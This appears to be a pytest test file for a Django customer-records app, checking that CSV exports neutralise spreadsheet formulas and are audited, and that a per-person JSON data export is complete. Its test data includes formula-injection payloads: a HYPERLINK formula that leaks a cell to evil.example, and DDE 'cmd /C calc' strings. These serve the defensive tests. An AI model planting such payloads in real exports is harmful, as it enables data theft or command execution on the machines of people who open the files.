"""customers_export_csv (formula-safe, audited) and customer_data_export (a person's data as JSON)."""

import csv
import datetime
import io
import json

import pytest

from rapport.core.models import AuditEvent
from rapport.customers import services
from rapport.customers.models import Customer
from rapport.customers.services import ContactPointInput
from rapport.customers.tests.factories import (
    ConsentFactory,
    ContactPointFactory,
    CustomerFactory,
    HoldingFactory,
    HouseholdFactory,
    NoteFactory,
    PhoneFactory,
)

pytestmark = pytest.mark.django_db


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


class TestCustomersExportCsv:
    @pytest.mark.parametrize(
        "name",
        [
            '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "\t=1+1",
            "\r=1+1",
        ],
    )
    def test_cells_a_spreadsheet_would_run_are_prefixed_with_a_quote(self, name, make_user):
        # Given a customer whose name is a spreadsheet formula
        CustomerFactory(first_name=name, last_name="Plain")
        marketer = make_user("marketer")

        # When the list is exported
        text = services.customers_export_csv(
            customers=Customer.objects.all(), by=marketer, filters={}
        )

        # Then the cell is the same text with a leading quote, so it stays text
        row = _rows(text)[0]
        assert row["first_name"] == "'" + name
        assert row["last_name"] == "Plain"

    def test_organisation_name_and_household_cells_are_neutralised_too(self, make_user):
        household = HouseholdFactory(name="=cmd|'/C calc'!A0")
        CustomerFactory(kind="organisation", organisation_name="@SUM(A1:A9)", household=household)

        row = _rows(
            services.customers_export_csv(
                customers=Customer.objects.all(), by=make_user("admin"), filters={}
            )
        )[0]

        assert row["organisation_name"] == "'@SUM(A1:A9)"
        assert row["household"] == "'=cmd|'/C calc'!A0"

    def test_a_phone_written_with_plus_is_kept_as_text(self, make_user):
        customer = services.customer_create(
            first_name="Ann",
            contact_points=[ContactPointInput(kind="phone", value="+1 415 555 2671")],
        )

        row = _rows(
            services.customers_export_csv(
                customers=Customer.objects.all(), by=make_user("admin"), filters={}
            )
        )[0]

        assert row["id"] == str(customer.pk)
        assert row["phone"] == "'+1 415 555 2671"

    def test_one_row_per_customer_with_the_preferred_email_and_phone(self, make_user):
        ann = CustomerFactory(first_name="Ann", last_name="Able")
        ContactPointFactory(customer=ann, value="other@example.com")
        ContactPointFactory(customer=ann, value="best@example.com", preferred=True)
        PhoneFactory(customer=ann, value="415-555-2671", normalised="+14155552671")
        CustomerFactory(first_name="Ben", last_name="Baker")

        rows = _rows(
            services.customers_export_csv(
                customers=Customer.objects.order_by("last_name"),
                by=make_user("admin"),
                filters={},
            )
        )

        assert [r["first_name"] for r in rows] == ["Ann", "Ben"]
        assert rows[0]["email"] == "best@example.com"
        assert rows[0]["phone"] == "415-555-2671"
        assert rows[1]["email"] == rows[1]["phone"] == ""
        assert list(rows[0]) == services.EXPORT_HEADER

    def test_the_export_is_audited_with_row_count_and_query(self, make_user):
        CustomerFactory.create_batch(3)
        marketer = make_user("marketer")

        services.customers_export_csv(
            customers=Customer.objects.all(), by=marketer, filters={"status": "customer"}
        )

        event = AuditEvent.objects.get(action="customers.exported")
        assert event.actor == marketer
        assert event.detail == {"rows": 3, "filters": {"status": "customer"}, "text_search": False}

    def test_query_count_does_not_grow_with_rows(self, make_user, django_assert_max_num_queries):
        admin = make_user("admin")
        for customer in CustomerFactory.create_batch(20, household=HouseholdFactory()):
            ContactPointFactory(customer=customer)
            PhoneFactory(customer=customer)

        with django_assert_max_num_queries(3):
            text = services.customers_export_csv(
                customers=Customer.objects.all(), by=admin, filters={}
            )

        assert len(_rows(text)) == 20


class TestCustomerDataExport:
    def test_holds_everything_about_the_person(self, make_user):
        household = HouseholdFactory(name="The Lees")
        customer = services.customer_create(
            first_name="Ann",
            last_name="Lee",
            household=household,
            date_of_birth=datetime.date(1980, 2, 3),
            contact_points=[
                ContactPointInput(kind="email", value="ann@example.com"),
                ContactPointInput(kind="phone", value="415-555-2671"),
            ],
        )
        HoldingFactory(customer=customer, product__name="Everyday account")
        ConsentFactory(customer=customer, channel="sms", purpose="surveys", granted=False)
        NoteFactory(customer=customer, body="Prefers mornings.")
        admin = make_user("admin")

        data = json.loads(services.customer_data_export(customer=customer, by=admin))

        assert data["customer"]["first_name"] == "Ann"
        assert data["customer"]["date_of_birth"] == "1980-02-03"
        assert "name_key" not in data["customer"]
        assert data["household"]["name"] == "The Lees"
        assert sorted(p["normalised"] for p in data["contact_points"]) == [
            "+14155552671",
            "ann@example.com",
        ]
        assert [h["product"] for h in data["holdings"]] == ["Everyday account"]
        assert [(c["channel"], c["purpose"], c["granted"]) for c in data["consents"]] == [
            ("sms", "surveys", False)
        ]
        assert [n["body"] for n in data["notes"]] == ["Prefers mornings."]
        assert "author" not in data["notes"][0] and "author_id" not in data["notes"][0]
        assert [h["type"] for h in data["history"]] == ["+"]
        assert "exported_at" in data

    def test_is_audited_against_the_customer(self, make_user):
        customer = CustomerFactory()
        admin = make_user("admin")

        services.customer_data_export(customer=customer, by=admin)

        event = AuditEvent.objects.get(action="customer.data_exported")
        assert (event.actor, event.target_type, event.target_id) == (
            admin,
            "customers.customer",
            str(customer.pk),
        )

    def test_a_person_without_a_household_exports_null(self, make_user):
        data = json.loads(
            services.customer_data_export(customer=CustomerFactory(), by=make_user("admin"))
        )

        assert data["household"] is None
        assert data["contact_points"] == data["notes"] == []
